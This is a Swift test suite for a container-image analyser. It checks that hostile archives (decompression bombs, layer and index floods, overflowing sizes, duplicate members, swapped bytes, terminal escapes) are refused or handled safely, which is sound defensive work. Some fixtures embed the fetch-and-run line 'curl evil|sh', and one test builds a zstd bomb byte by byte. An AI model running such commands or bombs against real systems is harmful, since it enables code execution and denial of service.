import FathomTestSupport
import Foundation
import Testing
@testable import FathomCore

/// Inputs written to break the reader (issue 16's list): each is either read correctly, where the
/// OCI spec allows it, or refused with an error naming the limit or the fault; never a trap.
@Suite struct HostileInputTests {
    func load(_ archive: [UInt8], options: LoadOptions = LoadOptions()) throws -> Image {
        let path = try temporaryFile(archive)
        defer { try? FileManager.default.removeItem(atPath: (path as NSString).deletingLastPathComponent) }
        return try ImageLoader.load(path: path, options: options)
    }

    func finalPaths(_ a: Analysis) -> [String] {
        (1..<a.replay.nodeCount).filter { a.replay.currentState($0) != nil }.map { a.replay.paths.path(PathTable.NodeID($0)) }.sorted()
    }

    /// An opaque whiteout at the image root after another entry of its layer hides every lower entry
    /// and keeps the layer's own (it used to trap with an index out of range).
    @Test func rootOpaqueWhiteoutAfterAnotherEntry() throws {
        let base = DockerArchiveBuilder.layer { t in
            t.add("etc/", kind: .directory, mode: 0o755)
            t.add("etc/passwd", data: Array("root".utf8))
            t.add("usr/bin/tool", data: Array("x".utf8))
        }
        let top = DockerArchiveBuilder.layer { t in
            t.add("new/", kind: .directory, mode: 0o755)
            t.add("new/file", data: Array("y".utf8))
            t.add(".wh..wh..opq")
            t.add(".wh.", data: [])
        }
        let image = try load(DockerArchiveBuilder(layers: [base, top]).build())
        let analysis = Analysis(image: image)
        #expect(finalPaths(analysis) == ["new", "new/file"])
        #expect(Set(analysis.replay.diffs[1].removed.map { analysis.replay.paths.path($0) }) == ["etc", "etc/passwd", "usr", "usr/bin", "usr/bin/tool"])
        #expect(image.layers[1].blob.changeset.ignoredNames == [".wh."])
    }

    /// A hardlink whose target is a whiteout name, and a hardlink to a missing target: warnings, no trap.
    @Test func hardlinkToAWhiteoutName() throws {
        let layer = DockerArchiveBuilder.layer { t in
            t.add("a", data: Array("a".utf8))
            t.add("link", kind: .hardlink, link: ".wh.etc")
            t.add("other", kind: .hardlink, link: "missing/target")
            t.add(".wh.etc")
        }
        let analysis = Analysis(image: try load(DockerArchiveBuilder(layers: [layer]).build()))
        #expect(finalPaths(analysis) == ["a", "link", "other"])
        #expect(analysis.replay.warnings.contains { $0.contains("hardlink link -> .wh.etc: target missing") })
        #expect(analysis.replay.warnings.contains { $0.contains("whiteout of etc, which no lower layer has") })
    }

    /// 32,769 layers used to trap on the 16-bit layer index; past `Limits.layersPerImage` the image is
    /// refused from its manifest alone.
    @Test func tooManyLayers() throws {
        let empty = DockerArchiveBuilder.layer { _ in }
        let archive = DockerArchiveBuilder(layers: Array(repeating: empty, count: 32_769)).build()
        #expect {
            try load(archive)
        } throws: { error in
            "\(error)".hasSuffix("32769 layers, more than 4096 (fathom's limit)")
        }
    }

    /// GNU sparse files state any size; two of 2^63−1 bytes used to overflow when added.
    @Test func sparseFilesWhoseSizesOverflow() throws {
        let layer = DockerArchiveBuilder.layer { t in
            t.addSparse("huge1", realSize: Int64.max)
            t.addSparse("huge2", realSize: Int64.max)
        }
        #expect {
            try load(DockerArchiveBuilder(layers: [layer]).build())
        } throws: { error in
            "\(error)".contains("layer 0 (l0/layer.tar): its entries' sizes add up to more than \(Limits.layerBytes) bytes")
        }
        // below the limit, a sparse file counts with its stated size
        let fine = DockerArchiveBuilder.layer { t in t.addSparse("big", realSize: 1 << 40) }
        let image = try load(DockerArchiveBuilder(layers: [fine]).build())
        #expect(image.layers[0].blob.changeset.sizes == [1 << 40])
    }

    /// A path longer than PATH_MAX is refused; one of exactly 4096 bytes is read.
    @Test func pathLongerThanPathMax() throws {
        let deep = Array(repeating: "d", count: 2048).joined(separator: "/")   // 4095 bytes
        let ok = DockerArchiveBuilder.layer { t in t.add(deep + "/", kind: .directory) }
        let image = try load(DockerArchiveBuilder(layers: [ok]).build())
        let analysis = Analysis(image: image)
        #expect(analysis.replay.paths.pathBytes(PathTable.NodeID(analysis.replay.nodeCount - 1)).count == 4095)
        let tooLong = DockerArchiveBuilder.layer { t in t.add(deep + "/xy") }
        #expect {
            try load(DockerArchiveBuilder(layers: [tooLong]).build())
        } throws: { error in
            "\(error)".contains("an entry's path or link target is 4098 bytes, more than 4096 (PATH_MAX)")
        }
    }

    /// A 50 MB history command is cut to `Limits.commandBytes` when the config is read.
    @Test func hugeHistoryCommandIsCut() throws {
        let empty = DockerArchiveBuilder.layer { _ in }
        var builder = DockerArchiveBuilder(layers: [empty])
        builder.commands = [String(repeating: "é", count: 25_000_000)]
        let image = try load(builder.build())
        let command = try #require(image.layers[0].history?.created_by)
        #expect(command.utf8.count <= Limits.commandBytes + 3)
        #expect(command.hasSuffix("…") && command.hasPrefix("éé"))
    }

    // MARK: OCI indexes

    /// An OCI layout whose index.json points at nested indexes `levels` deep (or at itself).
    func nestedIndexLayout(levels: Int, loop: Bool = false, fanOut: Int = 1) throws -> [UInt8] {
        var outer = TarWriter()
        outer.add("oci-layout", data: Array(#"{"imageLayoutVersion":"1.0.0"}"#.utf8))
        let layer = DockerArchiveBuilder.layer { t in t.add("f", data: [1]) }
        let layerDigest = Digest(sha256Of: layer).value
        let config = Array(#"{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":["\#(layerDigest)"]}}"#.utf8)
        let configDigest = Digest(sha256Of: config).value
        let manifest = Array(#"{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"\#(configDigest)","size":\#(config.count)},"layers":[{"mediaType":"application/vnd.oci.image.layer.v1.tar","digest":"\#(layerDigest)","size":\#(layer.count)}]}"#.utf8)
        var child = #"{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"\#(Digest(sha256Of: manifest).value)","size":\#(manifest.count)}"#
        for (d, b) in [(layerDigest, layer), (configDigest, config), (Digest(sha256Of: manifest).value, manifest)] {
            outer.add("blobs/sha256/" + d.dropFirst(7), data: b)
        }
        let loopDigest = "sha256:" + String(repeating: "a", count: 64)
        for level in 0..<levels {
            let entries = Array(repeating: loop && level == 0 ? #"{"mediaType":"application/vnd.oci.image.index.v1+json","digest":"\#(loopDigest)","size":1}"# : child, count: fanOut)
            let index = Array(#"{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[\#(entries.joined(separator: ","))]}"#.utf8)
            let digest = loop && level == 0 ? loopDigest : Digest(sha256Of: index).value
            outer.add("blobs/sha256/" + digest.dropFirst(7), data: index)
            child = #"{"mediaType":"application/vnd.oci.image.index.v1+json","digest":"\#(digest)","size":\#(index.count)}"#
        }
        outer.add("index.json", data: Array(#"{"schemaVersion":2,"manifests":[\#(child)]}"#.utf8))
        return outer.finished()
    }

    @Test func nestedIndexesWithinTheLimitAreRead() throws {
        let image = try load(try nestedIndexLayout(levels: Limits.indexLevels - 1))
        #expect(image.layers.count == 1)
    }

    @Test func indexesNestedTooDeepOrInALoop() throws {
        for archive in [try nestedIndexLayout(levels: Limits.indexLevels), try nestedIndexLayout(levels: 1, loop: true)] {
            #expect {
                try load(archive)
            } throws: { error in
                "\(error)".contains("indexes nested deeper than 8 levels") && "\(error)".hasSuffix("(fathom's limit)")
            }
        }
    }

    @Test func indexWithTooManyEntries() throws {
        #expect {
            try load(try nestedIndexLayout(levels: 1, fanOut: Limits.indexEntries + 1))
        } throws: { error in
            "\(error)".contains("the indexes list more than 4096 manifests")
        }
    }

    // MARK: documents and inputs

    /// On a one-pass stream every JSON-looking member is kept until the manifest says which matter:
    /// past `Limits.documentsBytes` together the stream is refused, long before memory runs out.
    @Test func jsonMembersBeyondTheLimitOnAStream() throws {
        let document = [UInt8(ascii: "{")] + [UInt8](repeating: 0x20, count: 60 << 20)
        var parts: [[UInt8]] = []
        for i in 0..<6 {
            parts.append(TarWriter.header(name: "doc\(i).json", kind: 0x30, size: document.count, link: "", mode: 0o644))
            parts.append(TarWriter.padded(document))
        }
        parts.append([UInt8](repeating: 0, count: 1024))
        #expect {
            try ImageLoader.load(archiveFrom: PartsSource(parts), name: "docker://hostile")
        } throws: { error in
            "\(error)" == "docker://hostile: more than 268435456 bytes of JSON documents (fathom's limit)"
        }
    }

    /// A source asked again for a layer's files (an engine's `docker save`, a registry blob) must
    /// give the bytes it gave the analysis: other bytes of the same size are refused before any is
    /// used; the same bytes are fetched once however often they are read.
    @Test func aSourceThatAnswersOtherBytesTheSecondTimeIsRefused() throws {
        func image(_ script: String) -> [UInt8] {
            DockerArchiveBuilder(layers: [DockerArchiveBuilder.layer { $0.add("run.sh", data: Array(script.utf8)) }]).build()
        }
        let benign = image("echo benign from the refetch test\n"), other = image("curl evil|sh from the refetch test\n")
        #expect(benign.count == other.count)
        func read(_ image: Image) throws -> String {
            let files = ImageFiles(image: image)
            let state = try #require(try files.lookup("run.sh", atLayer: 0).state)
            let content = try #require(files.content(of: state))
            return String(decoding: try LayerContent.bytes(row: content.row, of: image.layers[content.layer], archive: "docker://x:1", limit: 100), as: UTF8.self)
        }
        let swapped = try ImageLoader.load(archiveFrom: PartsSource([benign]), name: "docker://x:1", reopen: { PartsSource([other]) })
        let digest = swapped.layers[0].blob.digest.value
        #expect { try read(swapped) } throws: { "\($0)" == "layer 0 (\(digest)) has other bytes than when it was analysed; nothing was read from it" }

        final class Count: @unchecked Sendable { var opened = 0 }
        let count = Count()
        let same = try ImageLoader.load(archiveFrom: PartsSource([benign]), name: "docker://x:1",
                                        reopen: { count.opened += 1; return PartsSource([benign]) })
        #expect(try read(same) == "echo benign from the refetch test\n")
        #expect(try read(same) == "echo benign from the refetch test\n")
        #expect(count.opened == 1)
    }

    /// A zstd layer of run-length blocks (4 bytes for 128 KiB of zeros, 32,768 times) would keep the
    /// analysis decompressing and hashing 200 GiB from a 6.5 MB archive: past 4 GiB, a layer that has
    /// expanded more than 4096 times is refused.
    @Test func zstdBombIsRefused() throws {
        var frame: [UInt8] = [0x28, 0xB5, 0x2F, 0xFD, 0x00, 0x38]   // magic; no checksum, no content size; 128 KiB window
        func blockHeader(_ size: Int, type: Int, last: Bool) -> [UInt8] {
            let v = size << 3 | type << 1 | (last ? 1 : 0)
            return [UInt8(v & 0xFF), UInt8(v >> 8 & 0xFF), UInt8(v >> 16 & 0xFF)]
        }
        let tarHeader = TarWriter.header(name: "zeros", kind: 0x30, size: 5 << 30, link: "", mode: 0o644)
        frame += blockHeader(512, type: 0, last: false) + tarHeader
        let blocks = (4 << 30) / (128 << 10) + 16
        for i in 0..<blocks { frame += blockHeader(128 << 10, type: 1, last: i == blocks - 1) + [0] }
        let archive = DockerArchiveBuilder(layers: [frame]).build()
        #expect { try load(archive) } throws: {
            "\($0)".contains("layer 0 (l0/layer.tar): ") && "\($0)".hasSuffix("(over 4096 times), a decompression bomb (fathom's limit)")
        }
    }

    /// A directory that is not an image layout is refused before any file under it is read.
    @Test func directoryThatIsNotALayout() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("fathom-notlayout-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir.appendingPathComponent("sub"), withIntermediateDirectories: true)
        try Data("{}".utf8).write(to: dir.appendingPathComponent("sub/index.json"))
        defer { try? FileManager.default.removeItem(at: dir) }
        #expect {
            try ImageLoader.load(path: dir.path)
        } throws: { error in
            "\(error)".hasSuffix("a directory, but not an image layout (no index.json, manifest.json or oci-layout at its top)")
        }
    }

    /// Two members with one name (a benign layer, then another of the same size): the scan used to
    /// take either copy at random and `cat` read the other, past `--verify`. Refused, on a file and on
    /// a stream, whether the layer or the manifest is repeated.
    @Test(arguments: ["l0/layer.tar", "manifest.json"])
    func duplicateMembersAreRefused(_ repeated: String) throws {
        let benign = DockerArchiveBuilder.layer { $0.add("run.sh", data: Array("echo benign\n".utf8)) }
        let other = DockerArchiveBuilder.layer { $0.add("run.sh", data: Array("curl evil|s\n".utf8)) }
        var builder = DockerArchiveBuilder(layers: [benign])
        builder.extra = { outer in outer.add(repeated, data: repeated == "manifest.json" ? Array("[]".utf8) : other) }
        let archive = builder.build()
        let expected = "two members are named '\(repeated)'; which copy counts is ambiguous, so the archive is refused"
        #expect { try load(archive) } throws: { "\($0)".hasSuffix("hostile.tar: " + expected) }
        let copy = UnsafeMutableRawBufferPointer.allocate(byteCount: archive.count, alignment: 1)
        defer { copy.deallocate() }
        copy.copyBytes(from: archive)
        var given = false
        let stream = ByteStream { defer { given = true }; return given ? UnsafeRawBufferPointer(start: nil, count: 0) : UnsafeRawBufferPointer(copy) }
        #expect { try ImageLoader.load(OuterArchive(stream: stream, name: "-"), name: "standard input", options: LoadOptions()) { _ in .unavailable("") } }
            throws: { "\($0)" == "standard input: " + expected }
    }

    @Test func devZeroIsATarWithNoMembers() throws {
        #expect {
            try ImageLoader.load(path: "/dev/zero")
        } throws: { error in
            "\(error)" == "/dev/zero: a tar archive with no members (only end-of-archive blocks), not an image archive"
        }
    }

    /// Control characters from names and answers never reach the terminal as they are.
    @Test func terminalTextEscapesControls() {
        #expect(TerminalText.escape("ok") == "ok")
        #expect(TerminalText.escape("a\u{1B}[32mPASS\r\n") == "a\\x1b[32mPASS\\r\\n")
        #expect(TerminalText.escape("\u{9B}2J é 日本 \u{202E}gpj") == "\\x9b2J é 日本 \\u{202e}gpj")
        #expect(TerminalText.escape(bytes: [0x61, 0xFF, 0x07]) == "a\\xff\\x07")
        #expect(TerminalText.unescape("a\\xffb\\xE9") == [0x61, 0xFF, 0x62, 0xE9])
        // invisible characters that make two names look alike; joiners in emoji are escaped too
        #expect(TerminalText.escape("passwd\u{200B}") == "passwd\\u{200b}")
        #expect(TerminalText.escape("a\u{FEFF}b\u{2028}c\u{2060}d\u{61C}") == "a\\u{feff}b\\u{2028}c\\u{2060}d\\u{61c}")
        #expect(TerminalText.escape("\u{00E9}\u{0301}ñ") == "\u{00E9}\u{0301}ñ")
        // every escape `escape` writes reads back
        for text in ["nl\nline\ttab\rcr", "zw\u{200B}sp", "rtl\u{202E}txt", "esc\u{1B}[0m"] {
            #expect(TerminalText.unescape(TerminalText.escape(text)) == Array(text.utf8), "\(text)")
        }
        #expect(TerminalText.unescape("back\\q and \\u{zz} stay") == Array("back\\q and \\u{zz} stay".utf8))
    }
}

/// The second adversarial pass's findings: inputs of a few megabytes that asked for gigabytes, or
/// overflowed a sum over paths.
@Suite struct AmplificationTests {
    func layer(_ changeset: Changeset, _ i: Int) -> Layer {
        Layer(index: i, reference: "l", memberPath: "l", mediaType: nil,
              blob: LayerBlob(changeset: changeset, compression: .none, digest: Digest("sha256:0"), diffID: Digest("sha256:0"),
                              storedBytes: 0, tarBytes: 0),
              configDiffID: nil, history: nil)
    }

    func changeset(rows: Int, pathBytes: Int = 8, kind: EntryKind = .file, size: Int64 = 1) -> Changeset {
        var c = Changeset()
        let path = [UInt8](repeating: 0x61, count: pathBytes)
        for r in 0..<rows {
            var p = path
            withUnsafeBytes(of: r) { p += $0 }
            p.withUnsafeBytes { c.append(path: $0, kind: kind, size: size, mode: 0o644, uid: 0, gid: 0,
                                         linkTarget: kind == .hardlink ? Array("a".utf8) : nil, device: nil) }
        }
        return c
    }

    func check(_ layers: [Layer]) throws {
        try Resolver(contents: ArchiveContents(), archive: "x.tar", options: LoadOptions()).checkReplayLimits(layers)
    }

    /// One blob named by 801 layers: 10,000 rows each, 8,010,000 to replay.
    @Test func oneBlobNamedByManyLayers() throws {
        let c = changeset(rows: 10_000)
        #expect(throws: Never.self) { try check((0..<800).map { layer(c, $0) }) }
        #expect { try check((0..<801).map { layer(c, $0) }) } throws: {
            "\($0)" == "x.tar: its layers hold 8010000 entries in all, more than 8000000 (fathom's limit)"
        }
    }

    @Test func pathBytesOfAllLayers() throws {
        let c = changeset(rows: 1000, pathBytes: 4000)     // about 4 MB of paths
        #expect { try check((0..<70).map { layer(c, $0) }) } throws: { "\($0)".contains("paths add up to") }
    }

    /// 33,000 hardlinks to a sparse file of 255 TiB would show 8.4 × 10^18 bytes: `fathom diff` trapped.
    @Test func hardlinksTimesSizes() throws {
        let big = changeset(rows: 1, size: 255 << 40)
        let links = changeset(rows: 33_000, kind: .hardlink, size: 0)
        #expect { try check([layer(big, 0), layer(links, 1)]) } throws: { "\($0)".contains("33000 hardlinks to files of up to") }
        let fewer = changeset(rows: 3000, kind: .hardlink, size: 0)
        #expect(throws: Never.self) { try check([layer(big, 0), layer(fewer, 1)]) }
    }

    /// 300,000 images in manifest.json (30 bytes each, a kilobyte or more each once parsed).
    @Test func manyObjectsInADocument() throws {
        let entries = Array(repeating: #"{"Config":"c","Layers":["l"]}"#, count: 70_000).joined(separator: ",")
        var outer = TarWriter()
        outer.add("manifest.json", data: Array(("[" + entries + "]").utf8))
        let path = try temporaryFile(outer.finished())
        #expect { try ImageLoader.load(path: path) } throws: { "\($0)".hasSuffix("manifest.json holds more than 65536 JSON objects (fathom's limit)") }
        #expect(JSONObjectCount.of(Array(#"{"a":"{{{\"{"}"#.utf8)) == 1)
    }

    /// DEL and the C1 controls are escaped in the JSON report (Go leaves them raw).
    @Test func jsonEscapesDELAndC1() {
        var w = JSONWriter()
        w.string("a\u{7F}b\u{9B}2Jc\u{A0}")
        #expect(String(decoding: w.bytes, as: UTF8.self) == #""a\u007fb\u009b2Jc\#u{A0}""#)
    }
}
